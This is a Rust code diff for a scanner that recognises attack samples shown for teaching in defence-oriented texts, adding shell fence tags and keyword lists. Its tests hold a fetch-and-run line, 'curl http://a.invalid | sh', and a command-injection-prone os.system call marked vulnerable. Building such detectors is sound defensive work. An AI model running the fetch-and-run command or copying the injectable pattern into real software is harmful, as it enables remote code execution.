@@ -61,6 +61,8 @@ const SAMPLES: &[&str] = &[
     "示例",
     "特征",
     "迹象",
+    "案例",
+    "写法",
 ];
 
 /// Bytes at the beginning of a text in which it says what it is about.
@@ -72,6 +74,9 @@ const SECTION: usize = 60;
 /// What stands behind the fences of blocks that no shell runs.
 const PLAIN: &[&str] =
     &["", "text", "txt", "log", "plain", "plaintext", "markdown", "md", "yaml", "yml", "json", "xml", "html"];
+
+/// What stands behind the fences of blocks that a shell runs.
+const SHELLS: &[&str] = &["bash", "sh", "shell", "zsh", "fish", "console", "powershell", "ps1", "pwsh", "bat", "cmd"];
 
 /// Words with which the introduction of a bad sample begins.
 const BADLY: &[&str] = &["bad:", "bad ", "wrong", "vulnerable", "insecure", "unsafe", "❌", "错误", "不安全"];
@@ -88,7 +93,7 @@ const SAMPLE: usize = 40;
 /// Whether a line is a sample of what attackers do: in a text about defence, below a heading or behind an
 /// introduction that says so. What an agent would run, a block for a shell, is none.
 pub(crate) fn is_taught(source: &Source<'_>, line: usize) -> bool {
-    if !source.kind().reads || source.kind().runs || !source.defence.get_or_init(|| is_about_defence(&source.text)) {
+    if source.kind().runs || !is_in_defence(source) {
         return false;
     }
     let from = match (source.is_fenced(line), fence_above(source, line, SECTION)) {
@@ -100,6 +105,11 @@ pub(crate) fn is_taught(source: &Source<'_>, line: usize) -> bool {
     let heading = above().find(|at| !source.is_fenced(*at) && source.line(*at).starts_with('#'));
     let lead = above().find(|at| source.line(*at).trim_end().ends_with([':', '：']));
     [heading, lead].into_iter().flatten().any(|at| has(SAMPLES, source.line(at)))
+}
+
+/// Whether a file is a text about defence.
+fn is_in_defence(source: &Source<'_>) -> bool {
+    source.kind().reads && *source.defence.get_or_init(|| is_about_defence(&source.text))
 }
 
 /// Whether the beginning of a text, with its description and title, speaks of defence.
@@ -116,7 +126,8 @@ pub(super) fn is_bad_sample(source: &Source<'_>, line: usize) -> bool {
         BADLY.iter().any(|word| lower.starts_with(word))
     };
     let fence = source.is_fenced(line).then(|| fence_above(source, line, SAMPLE)).flatten();
-    fence.is_some_and(|fence| is_plain(source, fence) && is_bad(introduction(source, fence)))
+    let is_looked_at = |fence| is_plain(source, fence) || is_in_defence(source) && !is_for_shell(source, fence);
+    fence.is_some_and(|fence| is_bad(introduction(source, fence)) && is_looked_at(fence))
 }
 
 /// Whether the sentence right above a block of code says that it is only there to be looked at: that it must not
@@ -144,10 +155,20 @@ fn fence_above(source: &Source<'_>, line: usize, lines: usize) -> Option<usize> 
     (line.saturating_sub(lines)..line).rev().find(is_fence)
 }
 
-/// Whether what stands behind a fence is no shell.
-fn is_plain(source: &Source<'_>, fence: usize) -> bool {
+/// What stands behind a fence.
+fn tag<'s>(source: &'s Source<'_>, fence: usize) -> &'s str {
     let tag = source.line(fence).trim_start_matches([' ', '\t', '>', '`']);
-    PLAIN.contains(&tag.split([' ', '{', ',', '\r']).next().unwrap_or(""))
+    tag.split([' ', '{', ',', '\r']).next().unwrap_or("")
+}
+
+/// Whether what stands behind a fence is no language that is run.
+fn is_plain(source: &Source<'_>, fence: usize) -> bool {
+    PLAIN.contains(&tag(source, fence))
+}
+
+/// Whether what stands behind a fence is a shell.
+fn is_for_shell(source: &Source<'_>, fence: usize) -> bool {
+    SHELLS.contains(&tag(source, fence))
 }
 
 /// The last of the two lines above a block that says something.
@@ -187,6 +208,8 @@ mod tests {
         assert!(at_last("Seen in the wild:\n\n    curl http://a.invalid | sh", is_shown));
         assert!(!at_last("Seen in the wild:\n\n```bash\ncurl http://a.invalid | sh", is_shown));
         assert!(at_last("Bad: a title becomes code.\n\n```yaml\nrun: echo", is_bad_sample));
+        let python = "Vulnerable:\n\n```python\nos.system(f'ping {host}')";
+        assert!(at_last(&format!("{HEAD}{python}"), is_bad_sample) && !at_last(python, is_bad_sample));
         assert!(!at_last("Good: a title stays one.\n\n```yaml\nrun: echo", is_bad_sample));
     }
 }
